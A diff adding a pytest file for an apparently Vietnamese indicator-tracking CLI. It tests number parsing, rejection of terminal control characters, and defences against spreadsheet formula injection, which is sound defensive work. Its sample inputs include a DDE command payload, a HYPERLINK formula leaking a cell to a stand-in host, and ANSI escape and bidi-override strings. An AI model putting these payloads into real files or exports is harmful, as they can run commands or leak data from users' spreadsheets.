@@ -1,0 +1,344 @@
+"""The adversary's cases: what a hostile note, a careless paste, a Notepad slip or a
+re-run command did before, and what ntm does now. One test per case of the issue
+"Safe in the office's hands", plus the property that any note round-trips through
+record, the year file, an export and an import as text and only text.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import shutil
+from pathlib import Path
+
+import openpyxl
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from ntm_tracker.cli import ExitCode
+from ntm_tracker.storage.csvfile import FORMULA_START, formula_like, text_cell, typed_cell
+from ntm_tracker.storage.store import Store
+from tests.conftest import DEMO, Invoke
+
+FORMULAS = [
+    "=1+1",
+    '=HYPERLINK("http://example.invalid/?d="&B5,"Xem chi tiết")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-1+1",
+    "@SUM(A1:A2)",
+    "\uff1d1+1",  # a full-width equals sign
+    " =1+1",
+]
+# what may not reach a terminal: ESC (CSI, OSC), BEL, the C1 controls, DEL, bidi overrides
+NUMBER = re.compile(r"-?\d+(\.\d+)?")
+TERMINAL_UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
+
+
+def entries(data: Path, year: int = 2027, book: str = "actuals") -> dict[str, object]:
+    loaded = Store(data).load().data
+    figures = loaded.actuals if book == "actuals" else loaded.plans
+    return dict(figures.years[year].values)
+
+
+def note_of(data: Path, ind: str, year: int = 2027) -> str | None:
+    return Store(data).load().data.actuals.years[year].values[ind].note
+
+
+def formula_cells(xlsx: bytes) -> list[str]:
+    """Every formula cell of every sheet of an xlsx file, as openpyxl reads it."""
+    book = openpyxl.load_workbook(io.BytesIO(xlsx))
+    return [
+        f"{sheet.title}!{c.coordinate}"
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for c in row
+        if c.data_type == "f"
+    ]
+
+
+def csv_rows(data: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
+# -- 5. numbers: one rule -----------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("args", "message"),
+    [
+        (["2028", "revenue", "8E+1"], "'8E+1' is written with an exponent"),
+        (["2028", "schools", "1e2"], "'1e2' is written with an exponent"),
+        (["2028", "revenue", "1e-320"], "'1e-320' is written with an exponent"),
+        (["2028", "revenue", "5e-324"], "'5e-324' is written with an exponent"),
+        (["2028", "revenue", "0,0000001"], "'0,0000001' has more digits than a figure keeps"),
+    ],
+)
+def test_a_figure_that_cannot_be_kept_as_typed_is_refused(
+    demo_dir: Path, ntm: Invoke, args: list[str], message: str
+) -> None:
+    r = ntm("--data-dir", str(demo_dir), "record", *args, "--lang", "en")
+    assert (r.exit_code, r.stdout) == (ExitCode.USAGE_ERROR, "")
+    assert r.stderr.startswith(f"Error: {message}")
+    assert not (demo_dir / "actuals" / "2028.yaml").exists()
+
+
+@pytest.mark.parametrize("typed", ["8e1", "1e-320", "0.0000001"])
+def test_the_same_rule_in_a_hand_edited_file_and_an_import(
+    demo_dir: Path, ntm: Invoke, typed: str, tmp_path: Path
+) -> None:
+    (demo_dir / "actuals" / "2028.yaml").write_text(f"year: 2028\nvalues:\n  revenue: {typed}\n")
+    r = ntm("--data-dir", str(demo_dir), "check", "--lang", "en")
+    assert r.exit_code == ExitCode.DATA_ERROR
+    assert "2028.yaml:3: error: '" + typed + "'" in r.stdout
+    (demo_dir / "actuals" / "2028.yaml").unlink()
+    (tmp_path / "in.csv").write_text(f"year,indicator,value\n2028,revenue,{typed}\n")
+    r = ntm("--data-dir", str(demo_dir), "import", str(tmp_path / "in.csv"), "--lang", "en")
+    assert r.exit_code == ExitCode.DATA_ERROR
+    assert f"line 2: '{typed}'" in r.stderr
+    assert not (demo_dir / "actuals" / "2028.yaml").exists()
+
+
+def test_minus_zero_is_stored_and_shown_as_zero(demo_dir: Path, ntm: Invoke) -> None:
+    r = ntm("--data-dir", str(demo_dir), "record", "2028", "poverty", "-0", "--lang", "en")
+    assert r.exit_code == 0, r.stderr
+    assert "poverty 2028 = 0%" in r.stdout
+    assert "poverty: {value: 0," in (demo_dir / "actuals" / "2028.yaml").read_text()
+    for _ in range(2):  # the first run fills the cache, the second reads it
+        r = ntm("--data-dir", str(demo_dir), "status", "2028", "--format", "json")
+        assert '"actual": 0.0,' in next(ln for ln in r.stdout.splitlines() if '"poverty"' in ln)
+
+
+def test_a_tiny_figure_in_an_old_file_is_named_not_a_traceback(demo_dir: Path, ntm: Invoke) -> None:
+    # what the old `record 2028 party_admission 1e-320` wrote before crashing
+    (demo_dir / "actuals" / "2028.yaml").write_text(
+        "year: 2028\nvalues:\n  party_admission: {value: 1e-320}\n"
+    )
+    for args in (["check"], ["record", "2028", "income", "90"], ["status"]):
+        r = ntm("--data-dir", str(demo_dir), *args, "--lang", "en")
+        assert r.exit_code == ExitCode.DATA_ERROR, (args, r.stderr)
+        assert "'1e-320' is written with an exponent" in r.stdout + r.stderr
+        assert r.exception is None or isinstance(r.exception, SystemExit)
+
+
+# -- 2. notes are text ----------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "note",
+    [
+        "\x1b[2J\x1b[Hxoá màn hình",  # clear screen
+        "\x1b]0;tiêu đề\x07",  # the window's title
+        "\u202eabc.exe",  # right-to-left override
+        "\u2066isolate\u2069",
+        "a\x01b",
+        "a\x7fb",
+        "a\x85b",  # NEL, a C1 control
+    ],
+)
+def test_a_control_character_in_a_note_is_refused_everywhere(
+    demo_dir: Path, ntm: Invoke, note: str, tmp_path: Path
+) -> None:
+    before = (demo_dir / "actuals" / "2027.yaml").read_bytes()
+    r = ntm("--data-dir", str(demo_dir), "record", "2027", "revenue", "71", "--force",
+            "--note", note, "--lang", "en")  # fmt: skip
+    assert r.exit_code == ExitCode.USAGE_ERROR
+    assert "invisible control character (U+" in r.stderr
+    assert not TERMINAL_UNSAFE.search(r.stderr)
+    (tmp_path / "in.csv").write_text(f'year,indicator,value,note\n2028,revenue,80,"{note}"\n')
+    r = ntm("--data-dir", str(demo_dir), "import", str(tmp_path / "in.csv"), "--lang", "en")
+    assert r.exit_code == ExitCode.DATA_ERROR
+    assert "in.csv, line 2: The note contains an invisible control character" in r.stderr
+    assert not TERMINAL_UNSAFE.search(r.stderr)
+    assert (demo_dir / "actuals" / "2027.yaml").read_bytes() == before
+    assert not (demo_dir / "actuals" / "2028.yaml").exists()
+
+
+def test_a_control_character_typed_into_a_year_file_is_named_with_its_line(
+    demo_dir: Path, ntm: Invoke
+) -> None:
+    path = demo_dir / "actuals" / "2027.yaml"
+    path.write_text(path.read_text().replace("Ước thực hiện đến 31/12", '"x\\e[2Jy"'))
+    for command in ("log", "status", "check"):
+        r = ntm("--data-dir", str(demo_dir), command, "--lang", "en")
+        assert r.exit_code == ExitCode.DATA_ERROR
+        out = r.stdout + r.stderr
+        assert "2027.yaml" in out and ":13:" in out.replace(", line ", ":")
+        assert "'note' contains an invisible control character (U+001B)" in out
+        assert not TERMINAL_UNSAFE.search(out)
+
+
+def test_a_note_of_two_lines_reads_as_two_lines_in_every_format(
+    demo_dir: Path, ntm: Invoke, tmp_path: Path
+) -> None:
+    d = str(demo_dir)
+    r = ntm("--data-dir", d, "record", "2027", "income", "87", "--force",
+            "--note", "dòng 1\r\ndòng 2\tcột 2")  # fmt: skip
+    assert r.exit_code == 0, r.stderr
+    assert note_of(demo_dir, "income") == "dòng 1\ndòng 2\tcột 2"
+    one_line = "dòng 1 / dòng 2 cột 2"
+    text = ntm("--data-dir", d, "summary", "2027").stdout
+    row = next(ln for ln in text.splitlines() if ln.startswith("3\t"))
+    assert row.split("\t")[-1] == one_line and row.count("\t") == 10
+    md = ntm("--data-dir", d, "summary", "2027", "--format", "markdown").stdout
+    assert "| dòng 1<br>dòng 2 cột 2 |" in md
+    assert one_line in ntm("--data-dir", d, "log", "income").stdout
+    assert one_line in ntm("--data-dir", d, "history", "income").stdout
+    out = tmp_path / "bc.docx"
+    assert ntm("--data-dir", d, "summary", "2027", "-o", str(out)).exit_code == 0
+    import docx
+
+    cells = [c for t in docx.Document(str(out)).tables for r_ in t.rows for c in r_.cells]
+    assert any(c.text == "dòng 1\ndòng 2\tcột 2" for c in cells)
+    xlsx = tmp_path / "pl.xlsx"
+    assert ntm("--data-dir", d, "summary", "2027", "-o", str(xlsx)).exit_code == 0
+    sheet = openpyxl.load_workbook(xlsx).active
+    noted = [c for row in sheet.iter_rows() for c in row if c.value == "dòng 1\ndòng 2\tcột 2"]
+    assert len(noted) == 1 and noted[0].alignment.wrap_text
+    exported = tmp_path / "e.csv"
+    assert ntm("--data-dir", d, "export", "-o", str(exported)).exit_code == 0
+    notes = [r_[14] for r_ in csv_rows(exported.read_bytes())]
+    assert "dòng 1\ndòng 2\tcột 2" in notes
+
+
+# -- 1. no formula reaches a spreadsheet ----------------------------------------------------
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_formula_like_text_is_written_after_an_apostrophe_and_read_back(text: str) -> None:
+    assert formula_like(text)
+    assert text_cell(text) == "'" + text
+    assert typed_cell(text_cell(text)) == text
+
+
+@pytest.mark.parametrize("text", ["abc", "'abc", "96,5", "", "a=b", "'"])
+def test_other_text_is_written_as_it_is(text: str) -> None:
+    assert text_cell(text) == text
+    assert typed_cell(text) == text
+
+
+@given(st.text(max_size=20))
+def test_the_apostrophe_defence_round_trips(text: str) -> None:
+    written = text_cell(text)
+    assert written[:1] not in FORMULA_START
+    assert typed_cell(written) == text
+
+
+@pytest.mark.parametrize("note", FORMULAS[:3])
+def test_no_formula_in_any_file_ntm_writes(
+    demo_dir: Path, ntm: Invoke, tmp_path: Path, note: str
+) -> None:
+    d = str(demo_dir)
+    plan = demo_dir / "targets.yaml"  # a plan name that starts with "="
+    plan.write_text(
+        plan.read_text().replace("vi: Thu nhập bình quân", "vi: =1+1 Thu nhập bình quân")
+    )
+    assert ntm("--data-dir", d, "record", "2027", "income", "87", "--force",
+               "--note", note).exit_code == 0  # fmt: skip
+    for args, name in (
+        (["export"], "e.xlsx"),
+        (["summary", "2027"], "pl.xlsx"),
+    ):
+        out = tmp_path / name
+        r = ntm("--data-dir", d, *args, "-o", str(out))
+        assert r.exit_code == 0, r.stderr
+        assert formula_cells(out.read_bytes()) == []
+        values = [
+            c.value
+            for row in openpyxl.load_workbook(out).active.iter_rows()
+            for c in row
+            if isinstance(c.value, str)
+        ]
+        assert note in values and any(v.startswith("=1+1 Thu") for v in values)
+    csvs = [
+        ntm("--data-dir", d, "export").stdout_bytes,
+        ntm("--data-dir", d, "status", "--format", "csv").stdout_bytes,
+        ntm("--data-dir", d, "history", "income", "--format", "csv").stdout_bytes,
+    ]
+    for data in csvs:
+        for row in csv_rows(data):
+            for cell in row:  # text after an apostrophe, or a number
+                assert cell[:1] not in FORMULA_START or NUMBER.fullmatch(cell), cell
+    rows = csv_rows(csvs[0])
+    assert "'" + note in [r_[14] for r_ in rows]
+    # numbers stay numbers: a negative growth rate is a number in Excel, not text
+    assert any(c.startswith("-") and NUMBER.fullmatch(c) for r_ in rows for c in r_)
+    text = ntm("--data-dir", d, "summary", "2027").stdout
+    row = next(ln for ln in text.splitlines() if ln.startswith("3\t"))
+    assert row.split("\t")[1].startswith("'=1+1") and row.split("\t")[-1] == "'" + note
+
+
+def test_an_export_with_a_formula_like_note_imports_back_as_it_was(
+    demo_dir: Path, ntm: Invoke, tmp_path: Path
+) -> None:
+    d = str(demo_dir)
+    note = '=HYPERLINK("http://example.invalid/?d="&B5,"Xem")'
+    assert ntm("--data-dir", d, "record", "2027", "income", "87", "--force",
+               "--note", note).exit_code == 0  # fmt: skip
+    out = tmp_path / "e.csv"
+    assert ntm("--data-dir", d, "export", "-o", str(out)).exit_code == 0
+    r = ntm("--data-dir", d, "import", str(out), "--lang", "en")
+    assert r.exit_code == 0, r.stderr
+    assert "nothing to record" in r.stdout or "unchanged" in r.stdout
+    assert note_of(demo_dir, "income") == note
+
+
+# -- the property: any note round-trips as text ---------------------------------------------
+
+NOTES = st.text(
+    alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), min_size=1, max_size=40
+) | st.sampled_from(FORMULAS)
+
+
+@settings(
+    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(note=NOTES)
+def test_any_note_round_trips_as_text(
+    note: str, ntm: Invoke, tmp_path_factory: pytest.TempPathFactory
+) -> None:
+    """record -> year file -> export CSV and xlsx -> import: no formula cell, no terminal
+    escape printed, and the same text back; or a refusal in one line, nothing written."""
+    from ntm_tracker.core.entering import check_note
+    from ntm_tracker.core.problems import InputError
+
+    data = tmp_path_factory.mktemp("round") / "demo"
+    shutil.copytree(DEMO, data)
+    d = str(data)
+    r = ntm("--data-dir", d, "record", "2027", "income", "87", "--force", "--note", note)
+    printed = r.stdout + r.stderr
+    assert not TERMINAL_UNSAFE.search(printed), printed
+    assert r.exception is None or isinstance(r.exception, SystemExit), repr(r.exception)
+    try:
+        kept = check_note(note)
+    except InputError:
+        assert r.exit_code == ExitCode.USAGE_ERROR and len(r.stderr.splitlines()) == 1
+        assert (
+            note_of(data, "income") == "Ước thực hiện đến 31/12" or note_of(data, "income") is None
+        )
+        return
+    assert r.exit_code == 0, r.stderr
+    assert note_of(data, "income") == kept
+    for command in (["log", "income"], ["history", "income"], ["summary", "2027"]):
+        out = ntm("--data-dir", d, *command)
+        assert out.exit_code == 0
+        assert not TERMINAL_UNSAFE.search(out.stdout + out.stderr)
+    folder = tmp_path_factory.mktemp("out")
+    xlsx = folder / "e.xlsx"
+    assert ntm("--data-dir", d, "export", "-o", str(xlsx)).exit_code == 0
+    assert formula_cells(xlsx.read_bytes()) == []
+    if kept is not None:
+        texts = [c.value for row in openpyxl.load_workbook(xlsx).active.iter_rows() for c in row]
+        assert kept in texts
+    exported = folder / "e.csv"
+    assert ntm("--data-dir", d, "export", "-o", str(exported)).exit_code == 0
+    for row in csv_rows(exported.read_bytes()):
+        assert all(c[:1] not in FORMULA_START or NUMBER.fullmatch(c) for c in row)
+    # the export imports into a fresh copy of the folder with the note as it was
+    fresh = tmp_path_factory.mktemp("fresh") / "demo"
+    shutil.copytree(DEMO, fresh)
+    r = ntm("--data-dir", str(fresh), "import", str(exported), "--force")
+    assert r.exit_code == 0, r.stderr
+    assert note_of(fresh, "income") == kept
